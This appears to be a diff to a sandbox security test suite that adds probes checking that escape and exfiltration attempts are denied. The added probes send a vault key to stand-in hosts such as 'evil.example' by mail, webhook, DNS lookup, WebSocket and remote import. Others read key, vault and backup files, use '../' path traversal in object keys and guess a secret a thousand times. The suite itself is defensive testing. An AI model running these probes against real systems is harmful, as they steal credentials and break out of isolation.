@@ -6,6 +6,8 @@
 
 import fs from "node:fs";
 import { createHmac } from "node:crypto";
+import { lookup } from "node:dns/promises";
+import { DatabaseSync } from "node:sqlite";
 import { z } from "zod";
 import { openClient } from "../../ipc/client.ts";
 import { connectSandbox } from "../../sandbox/client.ts";
@@ -67,6 +69,34 @@ const forged = (secret: string, header: unknown, claims: unknown) => {
 const FAR = 4_000_000_000;
 const identify = (token: string) => sandbox.identify({ workspace: "w1", token, secrets: [at.identity] });
 
+/** A mail to the attacker's server. */
+const mailTo = (password: unknown) => ({
+  workspace: "w1",
+  fromName: null,
+  replyTo: null,
+  inReplyTo: null,
+  references: [],
+  files: [],
+  unsubscribeUrl: null,
+  server: { kind: "own", host: "localhost", port: 587, tls: "tls", user: "u", password, from: "a@desk.example" },
+  to: { address: "b@evil.example", name: null },
+  subject: "",
+  text: "",
+  html: "",
+  messageId: "<1@desk.example>",
+  automatic: true,
+  deadlineMs: 5000,
+});
+const pushBy = (sealed: unknown) =>
+  JSON.stringify({
+    message: "the database",
+    browser: { p256dh: "A".repeat(87), auth: "A".repeat(22) },
+    vapid: { publicKey: "A".repeat(87), sealed },
+    subject: "mailto:a@desk.example",
+    topic: "t",
+    ttlS: 0,
+  });
+
 const KEYS: Readonly<Record<string, Probe>> = {
   "key: send it to another host": () => withKey(at.evil),
   "key: send it to another host by its query": () => call(`${at.evil}/?k=${KEY}`, { secrets: { KEY: at.live } }),
@@ -92,6 +122,40 @@ const KEYS: Readonly<Record<string, Probe>> = {
   "key: read its folder": () => Array.from(Deno.readDirSync(`${at.data}/keys`)),
   "key: read the vault file": () => Deno.readTextFileSync(`${at.data}/keys/vault.json`),
   "key: read the first key file": () => Deno.readTextFileSync(`${at.data}/keys/1.key`),
+  "key: read a backup that is being made": () =>
+    Deno.readTextFileSync(`${at.data}/backups/backup-1/desk-2026-11-26T030000.backup`),
+  "key: read the keys of a backup that is tried": () => Deno.readTextFileSync(`${at.data}/backups/verify-1/keys/1.key`),
+  "key: read a backup in the project's folder": () =>
+    Deno.readTextFileSync(new URL("../../desk-2026-11-26T030000.backup", import.meta.url)),
+  "key: read the key of the sheets": () => Deno.readTextFileSync(`${at.data}/keys/prove.jwk`),
+  "key: load the vault file as a module": () => import(`${at.data}/keys/vault.json`, { with: { type: "json" } }),
+  "key: open the vault file as a database": () => new DatabaseSync(`${at.data}/keys/vault.json`),
+  "key: as the secret of a webhook": () =>
+    withKey(at.evil, at.live, {
+      door: "webhook",
+      method: "POST",
+      body: "{}",
+      headers: {
+        "content-type": "application/json",
+        "webhook-id": "1",
+        "webhook-timestamp": "1",
+        "webhook-signature": KEY,
+      },
+    }),
+  "key: as the password of a mail server": () => ask("mail", mailTo({ name: "KEY", sealed: at.live })),
+  "key: sign a push with its record": () =>
+    ask("call", request("https://1.1.1.1/1", { door: "push", method: "POST", body: pushBy(at.live) })),
+  "key: as the secret of an authenticator app": () =>
+    ask("totp_check", { account: "w1", sealed: at.live, code: "000000" }),
+  "key: guess it a thousand times": async () => {
+    for (let n = 0; n < 1000; n++) {
+      const answer = await sandbox.compareSecret({ workspace: "w1", name: "KEY" }, at.live, `guess-${n}-of-it`);
+      if (answer.kind !== "compared") return answer;
+    }
+    return "compared";
+  },
+  "key: compare with the identity secret": () =>
+    ask("compare_secret", { workspace: "w1", ...at.identity, value: "0123456789abcdef" }),
   "key: write the vault file": () => Deno.writeTextFileSync(`${at.data}/keys/vault.json`, "{}"),
   "key: the model's key from the environment": () => Deno.env.get("SVC_MODEL_KEY"),
   "key: the sandbox's environment": () => Deno.readTextFileSync(`/proc/${Deno.ppid}/environ`),
@@ -178,6 +242,11 @@ const DOORS: Readonly<Record<string, Probe>> = {
   "door: stream an action": () => sandbox.stream(request(at.app)),
   "door: a path beside the model's": () => call(`${at.model}/../admin`, { door: "model" }),
   "door: a path that no model needs": () => call(`${at.model}/files`, { door: "model", method: "POST", body: "{}" }),
+  "door: read as an AI client's document": () => call(at.evil, { door: "client" }),
+  "door: an object outside the files": () => ask("object_get", { key: "../backups/desk-2026-11-26T030000.backup" }),
+  "door: an object of the backups": () => ask("object_put", { key: "files/../../backups/a", sha256: "0".repeat(64) }),
+  "door: spans to a collector": () => ask("spans", { spans: [], endpoint: at.evil }),
+  "door: a mail without a password": () => ask("mail", mailTo(null)),
   "door: remove at the model": () => call(`${at.model}/chat/completions`, { door: "model", method: "DELETE" }),
 };
 
@@ -217,6 +286,16 @@ const FILES: Readonly<Record<string, Probe>> = {
   "socket: connect to the host itself": () =>
     Deno.connect({ hostname: "127.0.0.1", port: Number(new URL(at.evil).port) }),
   "socket: fetch": () => fetch(at.evil),
+  "socket: a WebSocket": () =>
+    new Promise((open, refused) => {
+      const socket = new WebSocket(at.evil.replace("http", "ws"));
+      socket.onopen = () => open("open");
+      socket.onerror = () => refused(new Deno.errors.NotCapable());
+    }),
+  "socket: a host of this name": () => Deno.connect({ hostname: "sandbox", port: 80 }),
+  "socket: look a name up": () => lookup("the-database.evil.example"),
+  "socket: look a name up by Deno": () => Deno.resolveDns("the-database.evil.example", "A"),
+  "socket: code of another host": () => import(`${at.evil}/${"code"}.ts`),
 };
 
 /** What sends data out; unfrozen, what the operator's rules let the desk reach is open. */
@@ -242,7 +321,7 @@ const CHANGES: Readonly<Record<string, Probe>> = {
 };
 
 const outcomeSchema = z.looseObject({ kind: z.string(), code: z.string().optional(), status: z.number().optional() });
-const DENIED = /Requires|EPERM|EACCES|NotCapable/;
+const DENIED = /cached-only|Requires|EPERM|EACCES|NotCapable/;
 
 async function outcomeOf(probe: Probe): Promise<string> {
   try {
